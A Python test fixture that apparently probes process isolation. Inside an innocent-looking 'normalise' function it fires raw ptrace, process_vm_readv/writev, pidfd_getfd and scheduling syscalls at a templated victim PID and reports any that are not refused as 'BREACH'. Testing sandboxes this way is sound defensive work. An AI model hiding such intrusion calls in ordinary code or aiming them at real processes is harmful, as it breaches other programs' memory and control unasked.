"""Makes the calls that trace a process, read or write its memory, take its descriptors or move its pages, on a process
of the same user. It seizes and does not attach, which would stop the other.
"""

import ctypes
import platform

import numpy as np

C = ctypes.CDLL(None, use_errno=True)
HERE = platform.machine()
# What a refusal looks like: not permitted, access denied, no such call.
REFUSED = (1, 13, 38)


def ask(name, numbers, *arguments):
    """Make a call by its number on this processor; any answer but a refusal is a way in."""
    number = dict(zip(("x86_64", "aarch64"), numbers)).get(HERE)
    if number is None:
        return
    result = C.syscall(
        ctypes.c_long(number), *(ctypes.c_long(each) if isinstance(each, int) else each for each in arguments)
    )
    reason = ctypes.get_errno()
    if result == -1 and reason in REFUSED:
        print(f"{name}: errno {reason}")
    else:
        print(f"BREACH {name}: {result}, errno {reason}")


def double(x):
    return 2 * x


def normalise(a):
    victim = int("{{victim}}")
    ask("ptrace TRACEME", (101, 117), 0, 0, 0, 0)
    ask("ptrace SEIZE", (101, 117), 0x4206, victim, 0, 0)
    local, remote = (ctypes.c_uint64 * 2)(0, 0), (ctypes.c_uint64 * 2)(0, 0)
    ask("process_vm_readv", (310, 270), victim, local, 1, remote, 1, 0)
    ask("process_vm_writev", (311, 271), victim, local, 1, remote, 1, 0)
    ask("pidfd_open", (434, 434), victim, 0)
    ask("pidfd_getfd", (438, 438), 3, 0, 0)
    ask("process_madvise", (440, 440), -1, 0, 0, 0, 0)
    ask("process_mrelease", (448, 448), -1, 0)
    ask("kcmp", (312, 272), victim, victim, 0, 0, 0)
    ask("get_robust_list", (274, 100), victim, ctypes.create_string_buffer(8), ctypes.create_string_buffer(8))
    ask("move_pages", (279, 239), victim, 0, 0, 0, 0, 0)
    ask("migrate_pages", (256, 238), victim, 0, 0, 0)
    ask("prlimit64 of another", (302, 261), victim, 7, 0, ctypes.create_string_buffer(16))
    ask("sched_setaffinity of another", (203, 122), victim, 0, 0)
    ask("sched_setscheduler of another", (144, 119), victim, 0, ctypes.create_string_buffer(8))
    ask("sched_setattr of another", (314, 274), victim, 0, 0)
    ask("setpriority of another", (141, 140), 0, victim, 19)
    ask("ioprio_set of another", (251, 30), 1, victim, 0x6007)
    return a / a.sum(axis=0, keepdims=True)
